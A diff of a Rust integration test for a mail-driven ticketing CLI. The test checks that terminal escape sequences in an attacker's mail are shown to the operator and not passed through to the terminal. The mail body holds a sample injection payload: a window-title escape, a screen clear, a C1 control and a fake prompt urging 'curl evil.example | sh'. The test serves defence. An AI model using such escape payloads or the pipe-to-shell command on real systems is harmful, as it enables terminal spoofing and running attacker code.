@@ -195,3 +195,38 @@ async fn check_prints_one_line_per_mailbox_and_fails_when_one_fails() {
     assert!(printed.contains("hr-old: FAILED: login refused for hr"), "{printed}");
     assert!(!printed.contains(support::dovecot::PASSWORD), "the password never shows");
 }
+
+#[tokio::test]
+async fn terminal_escapes_an_attacker_puts_in_a_mail_are_shown_to_the_operator_not_obeyed() {
+    let dir = tempfile::tempdir().unwrap();
+    let maildir = dir.path().join("it");
+    std::fs::create_dir_all(maildir.join("new")).unwrap();
+    let extra = format!("[[mailboxes]]\nname = \"it-old\"\ndepartment = \"it\"\nmaildir = \"{}\"\n", maildir.display());
+    let text = support::config_text("sqlite://loket.db", 143, &[], &extra)
+        .replace("sqlite://loket.db", &support::sqlite_url(dir.path()));
+    std::fs::write(dir.path().join("loket.toml"), &text).unwrap();
+
+    // The attacker's body sets the window title, clears the screen and paints a fake prompt.
+    let body = "Hello\r\n\x1b]0;PWNED-TITLE\x07\x1b[2J\x1b[31mSession expired, run: curl evil.example | sh\x1b[0m\r\n\u{9b}2J done";
+    let mail = request("Mallory <mallory@example.org>", "it@example.org", "Laptop \x1b[8m hidden", body, "esc-1@test");
+    std::fs::write(maildir.join("new/1.M1.host"), mail).unwrap();
+    let config = std::sync::Arc::new(loket::config::load_str(&text).unwrap());
+    let store = loket::app::open_store(&config).await.unwrap();
+    let pipeline = loket::app::pipeline(config.clone(), store.clone()).await.unwrap();
+    let never = tokio_util::sync::CancellationToken::new();
+    let outcome = loket::source::maildir::poll(&pipeline, &config.mailboxes[0], &never).await.unwrap();
+    assert_eq!(outcome.created, 1);
+    store.close().await;
+
+    // The operator looks at the ticket and the list.
+    for args in
+        [&["tickets", "show", "SD-00001", "--config", "loket.toml"][..], &["tickets", "list", "--config", "loket.toml"]]
+    {
+        let output = loket(args, dir.path());
+        assert!(output.status.success(), "{}", stderr(&output));
+        assert!(!output.stdout.contains(&0x1b), "no ESC byte reaches the terminal: {}", stdout(&output));
+        assert!(!stdout(&output).contains('\u{9b}'), "no C1 control either");
+    }
+    let shown = stdout(&loket(&["tickets", "show", "SD-00001", "--config", "loket.toml"], dir.path()));
+    assert!(shown.contains("␛]0;PWNED-TITLE␇␛[2J␛[31mSession expired"), "{shown}");
+}
